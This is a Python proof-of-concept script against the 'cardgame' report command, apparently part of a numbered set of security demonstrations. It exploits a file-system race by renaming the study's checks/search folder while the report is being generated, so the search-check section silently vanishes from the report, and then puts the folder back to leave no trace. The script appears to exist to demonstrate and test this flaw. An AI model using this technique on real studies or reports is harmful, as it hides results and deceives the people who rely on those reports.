# ruff: noqa: E501  (attack code: long report lines)
"""A sealed study's search check hidden from its report, then put back: no refusal, no trace.

``Results.checks()`` (sims/results.py) loads ``checks/NAME`` only where its manifest is a
file, and nothing calls the study's ``SealCheck`` after it when it finds none. The writer
watches the folder (inotify) while ``cardgame report`` reads it; once the reads of the
study's tables have stopped (its last check of the folder's marks, after the destination
rows), it renames ``checks/search`` out of the folder, and puts it back when the report has
been written. The report's "Holds for players who search" line and section are gone; exit 0.

python checkhide27.py
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

from common27 import (
    IN_CLOSE_NOWRITE,
    IN_OPEN,
    ROOT,
    Watch,
    cardgame,
    last_line,
    mentions,
    report,
    study_file,
)

SEARCH = r"search"


def main() -> None:
    folder = os.path.join(ROOT, "checkhide27")
    shutil.rmtree(folder, ignore_errors=True)
    path = study_file("checkhide27", 6, 2)
    made = cardgame("simulate", path, "--workers", "1", "--no-progress", "--check-search", "30")
    print(f"  the run: exit {made.returncode}: {last_line(made)!r}")
    out = os.path.join(ROOT, "checkhide27.md")
    honest, text = report(folder, out)
    print(
        f"  report (no attacker): exit {honest.returncode}; lines naming the search check: {len(mentions(text, SEARCH))}"
    )
    for line in mentions(text, SEARCH)[:2]:
        print(f"    {line}")
    for attempt in range(3):
        watch = Watch(
            [os.path.join(folder, "destinations"), os.path.join(folder, "checks", "search")],
            IN_OPEN | IN_CLOSE_NOWRITE,
        )
        hidden = os.path.join(ROOT, f".hidden-search-{attempt}")
        if os.path.exists(out):
            os.remove(out)
        run = subprocess.Popen(
            ["cardgame", "report", folder, "--format", "md", "--out", out],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        seen = 0
        moved = False
        while run.poll() is None:
            event = watch.next(0.5)
            if event is not None:
                seen += 1
                continue
            if seen and not moved:  # the reads of the study's tables have stopped
                os.rename(os.path.join(folder, "checks", "search"), hidden)
                moved = True
        watch.close()
        log = run.stdout.read()
        if moved:
            os.rename(hidden, os.path.join(folder, "checks", "search"))
        text = Path(out).read_text() if os.path.exists(out) else ""
        print(
            f"  attempt {attempt + 1}: checks/search renamed away after {seen} events and put back after the report: {moved}; "
            f"report exit {run.returncode}: {log.strip().splitlines()[-1][:120]!r}; lines naming the search check: {len(mentions(text, SEARCH))}"
        )
        if run.returncode == 0 and moved and not mentions(text, SEARCH):
            break
    again, text = report(folder, out)
    print(
        f"  report after it was put back: exit {again.returncode}; lines naming the search check: {len(mentions(text, SEARCH))}"
    )


if __name__ == "__main__":
    time.sleep(0)
    main()
